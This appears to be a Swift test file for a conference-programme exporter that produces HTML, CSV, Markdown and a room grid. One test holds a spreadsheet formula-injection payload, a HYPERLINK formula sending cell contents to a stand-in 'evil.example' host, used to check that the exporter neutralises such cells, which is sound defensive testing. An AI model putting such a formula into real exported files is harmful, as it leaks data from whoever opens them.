import ConveneCore
@testable import ConveneProgramme
import Testing

struct ProgrammeTests {
    @Test func showsSpeakersAccessibilityTrackNamesAndVenueButNotPrivatePeopleOrLinks() throws {
        let p = Programme(Forum.publication(), language: .en)
        #expect(p.title == "Rare Cancers Forum")
        #expect(p.venue == ["Tokyo Conference Centre", "1-1 Marunouchi, Tokyo"])
        let opening = try #require(p.items.first { $0.session == "opening" })
        #expect(opening.roomName == "Main Hall" && opening.trackName == "Plenaries" && opening.description == "Welcome")
        #expect(opening.speakers.map(\.name) == ["A patient organization representative", "Sophie Martin"])
        #expect(opening.speakers[1].affiliation == "Valmont, Head of Patient Advocacy")
        // The room's wheelchair access, and interpretation because the session asks for it; never the projector.
        #expect(opening.accessibility == ["Wheelchair accessible", "Simultaneous interpretation"])
        #expect(opening.online == "https://stream.example.org/hall")
        let access = try #require(p.items.first { $0.session == "access" })
        #expect(access.accessibility == ["Wheelchair accessible"])
        #expect(access.online == nil, "a private link stays out of the public programme")
        #expect(access.trackName == "access", "a track the plan does not name shows by its id")
    }

    @Test func oneLanguageOrBoth() throws {
        let ja = Programme(Forum.publication(), language: .ja), both = Programme(Forum.publication())
        #expect(ja.items.first?.title == "開会" && ja.items.first?.roomName == "ホール")
        #expect(both.items.first?.title == "開会 / Opening plenary")
    }

    @Test func pageHasGridListPrintStyleAndEverySessionOnce() {
        let html = ProgrammePage.render(Programme(Forum.publication(cancelling: true), language: .en))
        for id in ["opening", "access", "industry"] {
            #expect(html.components(separatedBy: "data-session=\"\(id)\"").count == 2)
        }
        #expect(html.contains("Access to trials &amp; &lt;drugs&gt;"))
        #expect(html.contains("<em>[Cancelled]</em>"))
        #expect(html.contains("@page{size:A4") && html.contains("break-before:page"))
        #expect(html.contains("Friday 12 March 2027") && html.contains("https://maps.example.org/tcc"))
        #expect(!html.contains("Ito Naoko") && !html.contains("secret") && !html.contains("<script"))
    }

    @Test func csvAndMarkdownCarryTheSameFacts() {
        let p = Programme(Forum.publication(), language: .en)
        let csv = ProgrammeText.csv(p)
        #expect(csv.hasPrefix("date,start,end,room,session,title,kind,track,speakers,accessibility,description,online,status\r\n"))
        #expect(csv.contains("\"A patient organization representative; Sophie Martin (Valmont, Head of Patient Advocacy)\""))
        let md = ProgrammeText.markdown(p)
        #expect(md.contains("### 10:30–12:00 Access to trials & \\<drugs\\>"))
        #expect(md.contains("- Kimura Daiki"))
    }

    /// Cells a spreadsheet would run as formulas (`=`, `+`, `-`, `@` first) start with `'` instead.
    @Test func csvNeutralisesCellsASpreadsheetWouldRun() {
        var event = Forum.event
        event.sessions[0].title = LocalizedText(en: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
        event.sessions[0].description = LocalizedText(en: "@cmd")
        event.rooms[1].name = LocalizedText(en: "-Room B")
        event.stakeholders[1].name = "+Sophie Martin"
        let csv = ProgrammeText.csv(Programme(Publication(event: event, removed: [], history: [Forum.first]), language: .en))
        let rows = csv.components(separatedBy: "\r\n")
        let opening = rows.first { $0.contains(",opening,") } ?? ""
        #expect(opening.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","))
        #expect(opening.contains(",'@cmd,"))
        #expect(rows.contains { $0.contains(",'-Room B,industry,") })
        #expect(opening.contains(",\"A patient organization representative; +Sophie Martin (Valmont"), "only a cell's first character counts")
        #expect(!csv.contains(",=") && !csv.contains(",@") && !csv.contains(",-") && !csv.contains(",+"))
    }

    @Test func gridPlacesSessionsInRoomColumnsAndSlotRows() throws {
        let p = Programme(Forum.publication())
        let day = try #require(p.days.first)
        let grid = ProgrammeGrid(day, slotMinutes: 15, zone: p.zone)
        #expect(grid.rooms.map(\.id) == ["hall", "room-b"])
        #expect(grid.time(ofRow: 0) == "09:00" && grid.rowCount == 36)
        #expect(grid.blocks[0].map(\.firstRow) == [0, 6] && grid.blocks[0].map(\.rowSpan) == [4, 6])
        #expect(grid.blocks[1].map(\.firstRow) == [6])
    }

    @Test func overlappingSessionsInOneRoomShareACell() throws {
        var clash = Forum.first
        clash.assignments[0].start = Forum.at("2027-03-12T10:00:00+09:00")
        let p = Programme(Publication(event: Forum.event, removed: [], history: [clash]))
        let grid = ProgrammeGrid(try #require(p.days.first), slotMinutes: 15, zone: p.zone)
        #expect(grid.blocks[0].count == 1 && grid.blocks[0][0].items.map(\.session) == ["opening", "access"])
        #expect(grid.blocks[0][0].firstRow == 4 && grid.blocks[0][0].rowSpan == 8)
    }
}
